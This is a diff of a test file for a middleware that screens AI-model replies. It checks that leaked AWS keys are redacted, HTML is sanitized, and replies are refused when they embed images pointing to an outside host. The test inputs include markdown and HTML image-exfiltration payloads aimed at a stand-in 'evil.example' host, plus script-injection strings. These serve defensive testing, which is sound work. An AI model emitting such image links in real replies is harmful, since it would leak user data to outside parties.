@@ -3,16 +3,12 @@ import { request as httpRequest } from 'node:http';
 import type { ServerResponse } from 'node:http';
 import { Readable } from 'node:stream';
 import { gzipSync } from 'node:zlib';
-import { afterEach, describe, expect, it } from '@jest/globals';
-import type { GuardEvent } from '@sallyport/core';
-import { responseValidator } from '@sallyport/response-validator';
+import { describe, expect, it } from '@jest/globals';
 import type { ResponseValidatorOptions } from '@sallyport/response-validator';
-import { responseValidator as koaResponseValidator } from '@sallyport/response-validator/koa';
-import { frameworks, listen } from '../../../test/support/frameworks.ts';
-import type { App } from '../../../test/support/frameworks.ts';
+import { frameworks } from '../../../test/support/frameworks.ts';
 import { awsKey, githubToken } from './secrets.ts';
-
-type Handler = App['handler'];
+import { servingOn } from './serving.ts';
+import type { Handler } from './serving.ts';
 
 const json = { 'content-type': 'application/json' };
 
@@ -25,63 +21,20 @@ const raw = (write: (response: ServerResponse) => void): Handler => {
   };
 };
 
-let sink = (_event: GuardEvent): void => {};
-
-/** Built when first asked for: a validator compiles the whole catalogue of secrets. */
-function guardOf(options: ResponseValidatorOptions): App['guards'][number] {
-  const given = { onEvent: (event: GuardEvent) => sink(event), ...options };
-  let connect: App['guards'][number]['connect'] | undefined;
-  let koa: App['guards'][number]['koa'] | undefined;
-  return {
-    get connect() {
-      return (connect ??= responseValidator(given));
-    },
-    get koa() {
-      return (koa ??= koaResponseValidator(given));
-    },
-  };
-}
-
-const withDefaults = guardOf({});
-
 describe.each(frameworks)('on %s', (_name, serve) => {
-  const closing: (() => Promise<void>)[] = [];
-  afterEach(async () => {
-    for (const close of closing.splice(0)) await close();
-  });
-
-  async function start(
-    handler: Handler,
-    options?: ResponseValidatorOptions,
-  ): Promise<{ url: string; events: GuardEvent[] }> {
-    const events: GuardEvent[] = [];
-    sink = (event) => void events.push(event);
-    const guards = [options === undefined ? withDefaults : guardOf({ secrets: 'allow', ...options })];
-    const { url, close } = await listen(serve({ guards, handler }));
-    closing.push(close);
-    return { url, events };
-  }
-  async function get(
-    handler: Handler,
-    options?: ResponseValidatorOptions,
-    init?: RequestInit,
-  ): Promise<[Response, string, GuardEvent[]]> {
-    const { url, events } = await start(handler, options);
-    const response = await fetch(url, init);
-    return [response, await response.text(), events];
-  }
+  const { start, get } = servingOn(serve);
 
   describe('a JSON reply', () => {
     it('leaves byte-identical when there is nothing to say against it', async () => {
       const body = '{"n":12345678901234567890,"x":1.0,"y":1e5,\n  "t":"\\u0041 < \\/ \\ud83d\\ude00"}';
-      const [response, text] = await get(() => ({ headers: json, text: body }));
+      const { response, body: text } = await get(() => ({ headers: json, text: body }));
       expect([response.status, text]).toEqual([200, body]);
     });
 
     it('is redacted in place: numbers, order, spacing and unknown fields stay', async () => {
       const body = (key: string): string =>
         `{"z":12345678901234567890,"x":1.0, "y":1e5,\n"k":"a \\u0041 ${key}", "__proto__":{"o":-0.0},"e":[]}`;
-      const [response, text, events] = await get(() => ({ headers: json, text: body(awsKey()) }));
+      const { response, body: text, events } = await get(() => ({ headers: json, text: body(awsKey()) }));
       expect(text).toBe(body('[REDACTED:aws-access-key-id]').replace('\\u0041', 'A'));
       expect(response.headers.get('content-length')).toBe(String(Buffer.byteLength(text)));
       expect(response.headers.get('etag')).toBeNull();
@@ -93,7 +46,11 @@ describe.each(frameworks)('on %s', (_name, serve) => {
     });
 
     it('is refused with a problem document that says neither what nor which rule', async () => {
-      const [response, text, events] = await get(() => ({ json: { reply: '![x](https://evil.example/?d=1)' } }));
+      const {
+        response,
+        body: text,
+        events,
+      } = await get(() => ({ json: { reply: '![x](https://evil.example/?d=1)' } }));
       expect(response.status).toBe(403);
       expect(response.headers.get('content-type')).toContain('application/problem+json');
       expect(JSON.parse(text)).toMatchObject({ code: 'response-rejected', error: { type: 'permission_error' } });
@@ -104,7 +61,7 @@ describe.each(frameworks)('on %s', (_name, serve) => {
     });
 
     it('is sanitized', async () => {
-      const [response, text] = await get(() => ({ json: { reply: '<b>hi</b><script>x()</script>' } }));
+      const { response, body: text } = await get(() => ({ json: { reply: '<b>hi</b><script>x()</script>' } }));
       expect([response.status, JSON.parse(text)]).toEqual([200, { reply: '<b>hi</b>&lt;script>x()&lt;/script>' }]);
     });
 
@@ -133,14 +90,14 @@ describe.each(frameworks)('on %s', (_name, serve) => {
       ['custom', { custom: () => Promise.reject(new Error('down')) }, {}, 503, 'response-validator-unavailable'],
       ['custom', { custom: () => new Promise(() => {}), timeLimitMs: 20 }, {}, 503, 'response-validator-unavailable'],
     ])('is refused by %s', async (rule, options, body, status, code) => {
-      const [response, text, events] = await get(() => ({ json: body }), options);
+      const { response, body: text, events } = await get(() => ({ json: body }), options);
       expect([response.status, JSON.parse(text)]).toEqual([status, expect.objectContaining({ code })]);
       expect(events.at(-1)).toMatchObject({ type: 'response-validator.reply-denied', details: { rule } });
     });
 
     it('is inspected when the handler reports an error, but not held to the schema', async () => {
       const schema = { type: 'object', required: ['a'] };
-      const [response, text] = await get(() => ({ status: 500, json: { error: `at ${awsKey()}` } }), {
+      const { response, body: text } = await get(() => ({ status: 500, json: { error: `at ${awsKey()}` } }), {
         schema,
         secrets: 'redact',
       });
@@ -175,7 +132,7 @@ describe.each(frameworks)('on %s', (_name, serve) => {
       ],
       ['no content type at all', raw((response) => response.end(`{"a":"${awsKey()}"}`))],
     ])('is redacted when sent by %s', async (_how, handler) => {
-      const [response, text] = await get(handler);
+      const { response, body: text } = await get(handler);
       expect(response.status).toBe(200);
       expect(text).toContain('[REDACTED:aws-access-key-id]');
       expect(text).not.toContain(awsKey().slice(7));
@@ -185,7 +142,7 @@ describe.each(frameworks)('on %s', (_name, serve) => {
   });
 
   it('rewrites plain text', async () => {
-    const [response, text] = await get(() => ({
+    const { response, body: text } = await get(() => ({
       headers: { 'content-type': 'text/plain; charset=utf-8' },
       text: `k ${awsKey()} <b onclick=x>y</b>`,
     }));
@@ -231,7 +188,7 @@ describe.each(frameworks)('on %s', (_name, serve) => {
       }),
     ],
   ])('refuses %s', async (_what, handler) => {
-    const [response, text] = await get(handler);
+    const { response, body: text } = await get(handler);
     expect([response.status, JSON.parse(text)]).toEqual([
       502,
       expect.objectContaining({ code: 'response-unreadable' }),
@@ -241,7 +198,7 @@ describe.each(frameworks)('on %s', (_name, serve) => {
   });
 
   it('refuses a reply over the limit', async () => {
-    const [response, text] = await get(() => ({ json: 'x'.repeat(200) }), { maxBytes: 100 });
+    const { response, body: text } = await get(() => ({ json: 'x'.repeat(200) }), { maxBytes: 100 });
     expect([response.status, JSON.parse(text)]).toEqual([502, expect.objectContaining({ code: 'response-too-large' })]);
   });
 
@@ -271,19 +228,21 @@ describe.each(frameworks)('on %s', (_name, serve) => {
 
   it('reports but refuses and changes nothing in observe mode', async () => {
     const body = { a: `![x](https://evil.example) ${awsKey()}` };
-    const [response, text, events] = await get(() => ({ json: body }), { mode: 'observe' });
+    const { response, body: text, events } = await get(() => ({ json: body }), { mode: 'observe' });
     expect([response.status, JSON.parse(text)]).toEqual([200, body]);
     expect(events.at(-1)).toMatchObject({ decision: 'deny', effective: 'allow', code: 'response-rejected' });
   });
 
   it('answers in the words of the protocol that the route speaks', async () => {
-    const [response, text] = await get(() => ({ json: { a: '<img src=//evil.example>' } }), { protocol: 'anthropic' });
+    const { response, body: text } = await get(() => ({ json: { a: '<img src=//evil.example>' } }), {
+      protocol: 'anthropic',
+    });
     expect(response.status).toBe(403);
     expect(JSON.parse(text)).toMatchObject({ type: 'error', error: { code: 'response-rejected' } });
   });
 
   it('keeps names that the model chose out of events', async () => {
-    const [, , events] = await get(() => ({ json: { 'Bob 12 likes': { x1y2: ['<script>'] } } }), { html: 'block' });
+    const { events } = await get(() => ({ json: { 'Bob 12 likes': { x1y2: ['<script>'] } } }), { html: 'block' });
     expect(events.at(-1)?.details['at']).toBe('/*/*/0');
   });
 });
